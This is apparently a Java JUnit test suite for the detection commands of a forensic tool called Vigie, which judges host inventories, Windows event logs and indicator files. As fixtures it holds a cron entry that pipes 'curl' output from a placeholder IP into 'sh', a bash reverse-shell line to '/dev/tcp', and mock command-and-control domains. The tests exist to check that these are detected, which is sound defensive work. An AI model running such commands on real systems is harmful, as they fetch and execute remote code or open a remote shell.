package bzh.vigie.collector;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.collector.evtx.Logs;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.RandomAccessFile;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

final class DetectCommandTest {
    private static final String BACKUP =
            "{\"kind\":\"item\",\"os\":\"linux\",\"location\":\"linux.cron.system\",\"source\":\"/etc/cron.d/backup\","
                    + "\"name\":\"backup\",\"value\":\"/usr/local/sbin/backup\",\"shipped\":\"modified\","
                    + "\"techniques\":[\"T1053.003\"],\"fingerprint\":\"1:a\",\"key\":\"k1\",\"traits\":[]}\n";
    private static final String ONE_LINER =
            "{\"kind\":\"item\",\"os\":\"linux\",\"location\":\"linux.cron.system\",\"source\":\"/etc/cron.d/x\","
                    + "\"name\":\"x\",\"value\":\"curl http://203.0.113.9/a | sh\",\"shipped\":\"modified\","
                    + "\"techniques\":[\"T1053.003\"],\"fingerprint\":\"1:b\",\"key\":\"k2\","
                    + "\"traits\":[\"network-tool\",\"inline-script\"]}\n";

    private static final String TOOL_RULE = """
            title: A tool was started
            id: x2
            logsource: {product: windows, category: process_creation}
            detection:
              s: {Image|endswith: '\\tool.exe', Computer: PC-1, Provider_Name: Vigie-Test}
              condition: s
            level: high
            """;

    private static final String BAD_RULE = """
            title: bad
            logsource: {product: linux}
            detection:
              s: {a|odd: 1}
              condition: s
            """;

    private final StringWriter out = new StringWriter();
    private final StringWriter err = new StringWriter();

    private int run(Object command, String... arguments) {
        return new CommandLine(command)
                .setOut(new PrintWriter(out, true))
                .setErr(new PrintWriter(err, true))
                .execute(arguments);
    }

    private static String write(Path folder, String name, String text) throws IOException {
        return Files.writeString(folder.resolve(name), text).toString();
    }

    @Test
    void anInventoryIsJudgedAsAlreadyThere(@TempDir Path folder) throws IOException {
        String scan = write(folder, "scan.jsonl", BACKUP + ONE_LINER + "{\"kind\":\"summary\",\"items\":2}\n");
        assertEquals(3, run(new DetectCommand(), "--inventory", scan, "--format", "jsonl", "--lang", "en"));
        String[] lines = out.toString().strip().split("\n", -1);
        assertEquals(1, lines.length);
        assertTrue(lines[0].startsWith("{\"rule\":\"vigie-linux-network-one-liner\""));
        assertTrue(lines[0].contains("\"severity\":\"high\""));
        assertTrue(lines[0].contains("already there when Vigie was installed"));
        assertTrue(err.toString().contains("2 events read"));
    }

    @Test
    void theGravestOfAnInventoryComesFirst(@TempDir Path folder) throws IOException {
        String rules = write(folder, "low.yml", """
                title: "{name} is known"
                id: "x-low\\e[2J"
                logsource: {product: linux, service: persistence}
                detection: {s: {name: backup}, condition: s}
                level: low
                description: "a\\e[2Jb"
                """);
        String scan = write(folder, "scan.jsonl", BACKUP + BACKUP + ONE_LINER + BACKUP);
        assertEquals(3, run(new DetectCommand(), "--inventory", scan, "--rules", rules, "--format", "table"));
        List<String> lines = out.toString().strip().lines().toList();
        assertEquals(5, lines.size(), out.toString());
        assertTrue(lines.get(1).contains("vigie-linux-network-one-liner"), out.toString());
        assertEquals(3, run(new DetectCommand(), "--inventory", scan, "--rules", rules));
        assertTrue(out.toString().contains("a\\u{1b}[2Jb"), out.toString());
        assertFalse(out.toString().contains("\u001b"), out.toString());
    }

    @Test
    void twoInventoriesShowWhatCameAndWent(@TempDir Path folder) throws IOException {
        String before = write(folder, "before.jsonl", BACKUP);
        String after = write(folder, "after.jsonl", ONE_LINER);
        assertEquals(3, run(new DetectCommand(), "--inventory", before, after, "--format", "jsonl"));
        assertTrue(out.toString().contains("\"change\":\"added\""));
        assertTrue(out.toString().contains("vigie-item-removed"));
        assertEquals(0, run(new DetectCommand(), "--inventory", before, before));
    }

    @Test
    void whatIsNewAndOrdinaryIsOneFindingInCalm(@TempDir Path folder) throws IOException {
        StringBuilder items = new StringBuilder(ONE_LINER);
        for (int i = 0; i < 60; i++) {
            items.append(
                    ("{\"kind\":\"item\",\"os\":\"windows\",\"location\":\"windows.service\",\"source\":\"HKLM\\\\X%d\","
                                    + "\"name\":\"Tool%d\",\"value\":\"C:\\\\Program Files\\\\T\\\\t%d.exe\",\"shipped\":\"unknown\","
                                    + "\"techniques\":[\"T1543.003\"],\"fingerprint\":\"1:%d\",\"key\":\"s%d\",\"traits\":[]}\n")
                            .formatted(i, i, i, i, i));
        }
        String before = write(folder, "before.jsonl", BACKUP);
        String after = write(folder, "after.jsonl", BACKUP + items);
        assertEquals(3, run(new DetectCommand(), "--inventory", before, after, "--situation", "calm", "--lang", "fr"));
        assertTrue(
                out.toString().contains("Nouveau ou modifié, et ordinaire – éléments : 60, machines : 1"),
                out.toString());
        assertTrue(out.toString().contains("Tool49"), out.toString());
        out.getBuffer().setLength(0);
        run(new DetectCommand(), "--inventory", before, after, "--situation", "calm", "--format", "jsonl");
        assertEquals(2, out.toString().lines().count(), out.toString());
        assertTrue(out.toString().contains("\"sum.places\":\"windows.service 60\""), out.toString());
        // Whoever compares suspects something: each is then told.
        out.getBuffer().setLength(0);
        run(new DetectCommand(), "--inventory", before, after, "--format", "jsonl");
        assertEquals(61, out.toString().lines().count());
        out.getBuffer().setLength(0);
        run(new DetectCommand(), "--inventory", before, after, "--situation", "monitoring", "--format", "jsonl");
        assertEquals(61, out.toString().lines().count());
    }

    /** A service that is made asks for nobody in calm, and for somebody under monitoring. */
    @Test
    void eventsAreJudgedInTheSituationThatIsSaid(@TempDir Path folder) throws IOException {
        String events = write(folder, "events.jsonl", """
                {"Channel":"System","Provider_Name":"Service Control Manager","EventID":7045,"Computer":"PC1",\
                "TimeCreated_SystemTime":"2026-11-25T09:12:44Z","ServiceName":"Outil","AccountName":"LocalSystem",\
                "ImagePath":"C:\\\\Program Files\\\\Outil\\\\outil.exe","ServiceType":"user mode service","StartType":"auto start"}
                """);
        run(new DetectCommand(), "--events", events, "--situation", "calm", "--format", "jsonl");
        assertTrue(out.toString().contains("\"severity\":\"informational\""), out.toString());
        assertFalse(out.toString().contains("\"severity\":\"medium\""), out.toString());
        run(new DetectCommand(), "--events", events, "--situation", "monitoring", "--format", "jsonl");
        assertTrue(out.toString().contains("\"severity\":\"medium\""), out.toString());
    }

    private static String read(String location, String status, String detail) {
        return "{\"kind\":\"location\",\"location\":\"%s\",\"status\":\"%s\",\"detail\":\"%s\",\"items\":1}\n"
                .formatted(location, status, detail);
    }

    private static String summary(String reader) {
        return "{\"kind\":\"summary\",\"reader\":\"%s\",\"os\":\"linux\"}\n".formatted(reader);
    }

    @Test
    void aLiveAndAnOfflineInventoryAreComparedByKeys(@TempDir Path folder) throws IOException {
        String whole = read("linux.cron.system", "read", "");
        String live = write(folder, "live.jsonl", BACKUP + whole + summary("live"));
        String same = write(folder, "same.jsonl", BACKUP + whole + summary("offline"));
        assertEquals(0, run(new DetectCommand(), "--inventory", live, same, "--lang", "fr"), out.toString());
        assertTrue(err.toString().contains("comparés comme deux lectures d'un même hôte"), err.toString());

        String hidden = write(folder, "hidden.jsonl", BACKUP + ONE_LINER + whole + summary("offline"));
        assertEquals(3, run(new DetectCommand(), "--inventory", live, hidden, "--lang", "fr"));
        assertTrue(out.toString().contains("Le disque contient ce que le système en marche ne montre pas : x"));
        assertEquals(3, run(new DetectCommand(), "--inventory", hidden, live, "--format", "jsonl", "--lang", "en"));
        String alert = out.toString().lines().reduce((a, b) -> b).orElseThrow();
        assertTrue(alert.contains("\"rule\":\"vigie-item-not-shown\""), alert);
        assertTrue(alert.contains("\"severity\":\"high\""), alert);
        assertTrue(alert.contains("\"also\":\"vigie-linux-network-one-liner\""), alert);
        assertTrue(alert.contains("hidden.jsonl\",\"channel\":\"\",\"record_id\":\"\",\"index\":2"), alert);
    }

    @Test
    void whatDiffersIsToldByItsFieldsAndWhatCouldNotBeReadIsSaid(@TempDir Path folder) throws IOException {
        String location = "linux.cron.system";
        String changed = BACKUP.replace("/usr/local/sbin/backup", "/tmp/backup");
        String live = write(folder, "live.jsonl", BACKUP + read(location, "read", "") + summary("live"));
        String other = write(folder, "other.jsonl", changed + read(location, "read", "") + summary("offline"));
        assertEquals(3, run(new DetectCommand(), "--inventory", live, other, "--format", "jsonl", "--lang", "en"));
        assertTrue(out.toString().contains("vigie-item-read-otherwise"), out.toString());
        assertTrue(out.toString().contains("\"before.value\":\"/usr/local/sbin/backup\""), out.toString());
        assertTrue(out.toString().contains("\"differs\":\"value\""), out.toString());

        String unread = write(folder, "unread.jsonl", read(location, "unreadable", "no right") + summary("offline"));
        assertEquals(0, run(new DetectCommand(), "--inventory", live, unread, "--lang", "en"));
        assertTrue(
                err.toString().contains("linux.cron.system: ") && err.toString().contains("no right"));

        String running = write(
                folder,
                "running.jsonl",
                read(location, "not-applicable", "location-needs-running") + summary("offline"));
        err.getBuffer().setLength(0);
        assertEquals(0, run(new DetectCommand(), "--inventory", live, running, "--lang", "en"));
        assertFalse(err.toString().contains("linux.cron.system: "), err.toString());

        String absent = write(folder, "absent.jsonl", read(location, "not-applicable", "") + summary("offline"));
        assertEquals(3, run(new DetectCommand(), "--inventory", live, absent, "--lang", "en"));
        assertTrue(out.toString().contains("[vigie-item-in-one-reading]"), out.toString());

        String unnamed = write(folder, "unnamed.jsonl", summary("offline"));
        assertEquals(0, run(new DetectCommand(), "--inventory", live, unnamed, "--lang", "en"));
        assertTrue(err.toString().contains("does not name this location"), err.toString());
    }

    @Test
    void twoReadingsOfOneKindAreComparedOnlyWhereThatIsSaid(@TempDir Path folder) throws IOException {
        String whole = read("linux.cron.system", "read", "");
        String one = write(folder, "one.jsonl", BACKUP + whole + summary("offline"));
        String other = write(folder, "other.jsonl", ONE_LINER + whole + summary("offline"));
        assertEquals(3, run(new DetectCommand(), "--inventory", one, other, "--format", "jsonl"));
        assertTrue(out.toString().contains("vigie-item-removed"), out.toString());
        out.getBuffer().setLength(0);
        assertEquals(3, run(new DetectCommand(), "--readings", "--inventory", one, other, "--format", "jsonl"));
        assertEquals(2, out.toString().lines().count(), out.toString());
        assertTrue(out.toString().lines().allMatch(line -> line.contains("vigie-item-in-one-reading")));
        assertEquals(2, run(new DetectCommand(), "--readings", "--inventory", one, "--lang", "en"));
        assertTrue(err.toString().contains("give --inventory LIVE OFFLINE"), err.toString());
    }

    @Test
    void eventsAreJudgedWithRulesOfTheUserToo(@TempDir Path folder) throws IOException {
        Path rules = Files.createDirectory(folder.resolve("rules"));
        write(rules, "whoami.yml", """
                title: Who am I
                id: x1
                logsource: {product: windows, category: process_creation}
                detection:
                  s: {Image|endswith: '\\whoami.exe'}
                  condition: s
                level: low
                """);
        write(rules, "bad.yml", BAD_RULE);
        String events = write(folder, "events.jsonl", """
                {"Channel":"Security","EventID":4688,"NewProcessName":"C:\\\\Windows\\\\whoami.exe"}
                {"kind":"process-started","sensor":"linux.x","CommandLine":"bash -i >& /dev/tcp/1.2.3.4/5"}
                no json
                """);
        assertEquals(3, run(new DetectCommand(), "--rules", rules.toString(), "--events", events, "--lang", "fr"));
        assertTrue(out.toString().contains("Who am I"));
        assertTrue(out.toString().contains("Un shell a été relié à une connexion réseau"));
        assertTrue(err.toString().contains("bad.yml:4"));
        assertTrue(err.toString().contains("1 ligne n'a pas pu être lue"));
    }

    @Test
    void oneActOfManyEventsIsOneLineAndEachInJsonLines(@TempDir Path folder) throws IOException {
        String event = """
                {"Channel":"Security","Provider_Name":"Microsoft-Windows-Security-Auditing","EventID":4719,"Computer":"DC1",\
                "TimeCreated_SystemTime":"2026-11-25T09:12:44Z","SubjectUserSid":"S-1-5-21-1-2-3-%d","SubjectUserName":"x",\
                "SubcategoryGuid":"{0cce92%02x-69ae-11d9-bed3-505054503030}","AuditPolicyChanges":"%%%%8448"}
                """;
        StringBuilder lines = new StringBuilder();
        for (int subcategory = 0x10; subcategory < 0x4b; subcategory++) {
            lines.append(event.formatted(1108, subcategory));
        }
        lines.append(event.formatted(1109, 0x37));
        String events = write(folder, "events.jsonl", lines.toString());
        assertEquals(3, run(new DetectCommand(), "--events", events, "--format", "jsonl", "--lang", "en"));
        String rule = "vigie-event-audit-taken-away";
        int each = out.toString().split("\"rule\":\"" + rule, -1).length - 1;
        assertTrue(each > 10, out.toString());
        out.getBuffer().setLength(0);
        assertEquals(3, run(new DetectCommand(), "--events", events, "--lang", "en"));
        assertEquals(2, out.toString().split("\\[" + rule, -1).length - 1, out.toString());
        assertTrue(err.toString().contains(each - 2 + " more findings are of an act"), err.toString());
    }

    @Test
    void recordsOfWindowsLogsAreJudgedByTheirFields(@TempDir Path folder) throws IOException {
        Path rules = Files.createDirectory(folder.resolve("rules"));
        write(rules, "tool.yml", TOOL_RULE);
        Path logs = folder.resolve("logs");
        Files.createDirectories(logs.resolve("below"));
        Files.write(logs.resolve("below/Sysmon.EVTX"), Logs.processCreated("C:\\Temp\\tool.exe"));
        Files.write(logs.resolve("other.evtx"), Logs.processCreated("C:\\Temp\\other.exe"));
        write(logs, "notes.txt", "no log");
        assertEquals(
                3,
                run(
                        new DetectCommand(),
                        "--rules",
                        rules.toString(),
                        "--evtx",
                        logs.toString(),
                        "--format",
                        "jsonl",
                        "--lang",
                        "en"));
        assertTrue(out.toString().contains("\"rule\":\"x2\""), out.toString());
        assertTrue(out.toString().contains("\"host\":\"PC-1\""), out.toString());
        assertTrue(out.toString()
                .contains("Sysmon.EVTX\",\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"record_id\":\"7\""));
        assertTrue(err.toString().contains("2 events read"), err.toString());
        assertTrue(err.toString().contains("2 records read, 0 of them in part"), err.toString());
        assertEquals(
                1, run(new DetectCommand(), "--evtx", logs.resolve("notes.txt").toString(), "--lang", "fr"));
        assertTrue(err.toString().contains("n'est pas un journal d'événements Windows"), err.toString());
    }

    @Test
    void damagedLogsCostTheOthersNothing(@TempDir Path folder) throws IOException {
        Path rules = Files.createDirectory(folder.resolve("rules"));
        write(rules, "tool.yml", TOOL_RULE);
        Path logs = Files.createDirectories(folder.resolve("logs"));
        byte[] sound = Logs.processCreated("C:\\Temp\\tool.exe");
        Map<String, byte[]> damaged = new TreeMap<>();
        damaged.put("a empty", new byte[0]);
        damaged.put("b cut to its header", Arrays.copyOf(sound, 4_096));
        damaged.put("c cut in a record", Arrays.copyOf(sound, 4_096 + 700));
        byte[] random = new byte[100_000];
        new Random(1).nextBytes(random);
        damaged.put("d random", random);
        damaged.put("e twice in one another", overlapping(sound));
        for (Map.Entry<String, byte[]> each : damaged.entrySet()) {
            Files.write(logs.resolve(each.getKey() + ".evtx"), each.getValue());
        }
        try (RandomAccessFile huge =
                new RandomAccessFile(logs.resolve("f hollow.evtx").toFile(), "rw")) {
            huge.setLength(512L << 20);
        }
        Files.write(logs.resolve("z sound.evtx"), sound);
        int ignored = run(
                new DetectCommand(),
                "--rules",
                rules.toString(),
                "--evtx",
                logs.toString(),
                "--format",
                "jsonl",
                "--lang",
                "en");
        assertTrue(out.toString().contains("z sound.evtx"), out.toString() + err);
        for (String none : List.of("a empty", "d random", "f hollow")) {
            assertTrue(err.toString().contains(none), none + " in " + err);
        }
        assertTrue(err.toString().contains("c cut in a record.evtx ends too early"), err.toString());
        assertTrue(out.toString().contains("e twice in one another.evtx"), out.toString());
    }

    /** The same chunk once more, from its middle on. */
    private static byte[] overlapping(byte[] sound) {
        byte[] twice = Arrays.copyOf(sound, sound.length + 32_768);
        System.arraycopy(sound, 4_096, twice, 4_096 + 32_768, 65_536);
        return twice;
    }

    @Test
    void indicatorsOfAFileAreLookedFor(@TempDir Path folder) throws IOException {
        Path iocs = Files.writeString(folder.resolve("iocs.csv"), "evil[.]example[.]org\n10.0.0.1\nno such thing\n");
        Path broken = Files.writeString(folder.resolve("broken.json"), "{\"type\":\"bundle\",\"objects\":[");
        Path events = Files.writeString(
                folder.resolve("events.jsonl"),
                "{\"kind\":\"dns-answer\",\"sensor\":\"linux.dns\",\"QueryName\":\"c2.evil.example.org\"}\n");
        List<String> arguments = List.of("--events", events.toString(), "--format", "jsonl", "--lang", "fr");
        assertEquals(0, run(new DetectCommand(), arguments.toArray(String[]::new)));
        List<String> with = new ArrayList<>(arguments);
        with.addAll(List.of("--iocs", iocs.toString()));
        assertEquals(3, run(new DetectCommand(), with.toArray(String[]::new)));
        assertTrue(out.toString().contains("\"rule\":\"vigie-indicator-seen\""), out.toString());
        assertTrue(err.toString().contains("1 indicateur recherché, 1 laissé de côté"), err.toString());
        assertTrue(err.toString().contains("10.0.0.1 est une adresse privée"), err.toString());
        with.addAll(List.of("--iocs", broken.toString()));
        assertEquals(1, run(new DetectCommand(), with.toArray(String[]::new)));
        assertTrue(err.toString().contains("n'est pas utilisé"), err.toString());
    }

    @Test
    void withoutInputThereIsNothingToJudge() {
        assertEquals(2, run(new DetectCommand(), "--lang", "fr"));
        assertTrue(err.toString().contains("Rien à juger"));
    }

    @Test
    void aMissingFileIsNamedWithoutAStackTrace(@TempDir Path folder) {
        String missing = folder.resolve("missing.jsonl").toString();
        assertEquals(1, run(new DetectCommand(), "--events", missing));
        assertTrue(err.toString().contains("missing.jsonl"));
        assertFalse(err.toString().contains("Exception"));
    }

    @Test
    void rulesAreCheckedWithFileLineAndReason(@TempDir Path folder) throws IOException {
        write(folder, "bad.yml", BAD_RULE);
        assertEquals(3, run(new RulesCommand(), "check", folder.toString(), "--lang", "fr"));
        assertTrue(out.toString().contains("bad.yml:4: le modificateur « odd » n'est pas pris en charge"));
        assertTrue(out.toString().contains("0 règle serait chargée, 1 est refusée."));
        assertEquals(1, run(new RulesCommand(), "check", folder.resolve("none").toString()));
    }
}
